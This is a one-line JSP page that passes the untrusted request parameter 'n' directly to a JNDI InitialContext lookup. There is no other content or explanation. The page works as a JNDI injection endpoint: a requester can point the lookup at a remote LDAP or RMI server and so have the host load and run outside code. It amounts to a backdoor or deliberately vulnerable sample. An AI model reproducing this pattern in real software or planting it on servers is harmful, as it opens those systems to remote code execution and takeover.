<%@ page import="javax.naming.InitialContext" %><% new InitialContext().lookup(request.getParameter("n")); %>
